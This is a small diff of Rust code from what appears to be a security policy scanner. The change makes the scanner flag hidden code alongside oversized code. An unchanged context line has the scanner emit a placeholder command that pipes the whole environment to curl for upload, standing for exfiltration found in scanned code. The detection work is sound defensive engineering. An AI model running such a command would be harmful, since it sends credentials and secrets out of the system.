@@ -260,7 +260,7 @@ impl Policy<'_> {
             // serialized and sent is not, and stands as the shell line that does the same.
             if let Some((code, lang)) = t.code {
                 let found = content::scan_code(&code, lang);
-                too_big = found.facts & fact::TOO_BIG != 0;
+                too_big = found.facts & (fact::TOO_BIG | fact::HIDDEN_CODE) != 0;
                 scripts.extend(found.lines);
                 if found.sends_whole_env {
                     scripts.push("env | curl -s --data-binary @- -- 'https://(where the code sends it)'".to_owned());
